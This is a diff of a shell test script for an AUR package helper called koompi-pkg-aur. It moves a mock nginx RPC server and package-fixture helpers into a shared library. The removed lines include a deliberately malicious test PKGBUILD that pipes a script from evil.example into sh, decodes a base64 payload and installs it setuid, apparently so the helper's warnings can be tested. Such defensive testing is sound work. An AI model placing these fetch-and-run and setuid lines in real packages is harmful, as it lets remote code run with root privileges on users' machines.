@@ -8,6 +8,7 @@
 # into a new root by a real pacman through koompi-boot update, the old root untouched.
 . "$(dirname "$0")/lib.sh"
 . "$(dirname "$0")/lib-nginx.sh"
+. "$(dirname "$0")/lib-aur.sh"
 . "$(dirname "$0")/lib-roots.sh"
 . "$(dirname "$0")/lib-figures.sh"
 AUR=$(dirname "$K")/koompi-pkg-aur
@@ -23,36 +24,10 @@ for tool in nginx curl git makepkg fakeroot python3; do
 done
 [ -x "$AUR" ] || { not_ok "koompi-pkg-aur is built" "make $AUR"; finish; exit 1; }
 
-# The RPC's answers are files: /rpc/info-NAME.json and /rpc/search-TEXT.json.
-NGINX_SERVER_EXTRA='location = /rpc/ {
-            if ($args ~ "^v=5&type=info&arg\[\]=(?<q>[A-Za-z0-9@._+-]+)$") { rewrite ^ /rpc/info-$q.json break; }
-            if ($args ~ "^v=5&type=search&arg=(?<q>[A-Za-z0-9@._+-]+)$") { rewrite ^ /rpc/search-$q.json break; }
-            return 400;
-        }'
+NGINX_SERVER_EXTRA=$AUR_NGINX
 check "nginx on 127.0.0.1" start_nginx
 mkdir -p "$T/mirror/rpc" "$T/mirror/files" "$T/pkgs"
 echo "from the network" >"$T/mirror/files/data.txt"
-
-# result NAME DESCRIPTION VOTES MAINTAINER: one RPC result.
-result() {
-	printf '{"ID":1,"Name":"%s","PackageBaseID":1,"PackageBase":"%s","Version":"1.0-1","Description":"%s",' "$1" "$1" "$2"
-	printf '"URL":null,"NumVotes":%s,"Popularity":0.25,"OutOfDate":null,"Maintainer":%s,' "$3" "$4"
-	printf '"FirstSubmitted":1700000000,"LastModified":1760000000,"URLPath":"/cgit/aur.git/snapshot/%s.tar.gz"}' "$1"
-}
-answer() { printf '{"version":5,"type":"%s","resultcount":%s,"results":[%s]}\n' "$1" "$2" "$3"; }
-
-# package NAME PKGBUILD-BODY: a git repository NAME.git with that PKGBUILD, served over dumb
-# HTTP, and its info answer.
-package() {
-	w=$T/work-$1
-	mkdir -p "$w"
-	printf 'pkgname=%s\npkgver=1.0\npkgrel=1\npkgdesc="A test package"\narch=(any)\nlicense=(MIT)\n%s\n' \
-		"$1" "$2" >"$w/PKGBUILD"
-	git -C "$w" init -q && git -C "$w" add PKGBUILD &&
-		git -C "$w" -c user.name=t -c user.email=t@t commit -qm "$1" &&
-		git clone -q --bare "$w" "$T/mirror/$1.git" && git -C "$T/mirror/$1.git" update-server-info || return 1
-	answer multiinfo 1 "$(result "$1" "A test package" 3 '"alice"')" >"$T/mirror/rpc/info-$1.json"
-}
 
 package koompi-hello "source=(\"$MIRROR/files/data.txt\")
 sha256sums=(SKIP)
@@ -69,13 +44,7 @@ package koompi-broken 'build() {
 	false
 }
 package() { :; }' || not_ok "a failing PKGBUILD repository"
-package koompi-evil 'build() {
-	curl -s https://evil.example/x.sh | sh
-	echo ZWNobyBvd25lZAo= | base64 -d >payload
-}
-package() {
-	install -Dm4755 payload "$pkgdir/usr/bin/payload"
-}' || not_ok "a malicious-looking PKGBUILD repository"
+package koompi-evil "$AUR_EVIL" || not_ok "a malicious-looking PKGBUILD repository"
 answer search 2 "$(result koompi-hello "A test package" 3 '"alice"'),$(result koompi-evil "Looks useful" 0 null)" \
 	>"$T/mirror/rpc/search-koompi.json"
 answer search 0 "" >"$T/mirror/rpc/search-nothing.json"
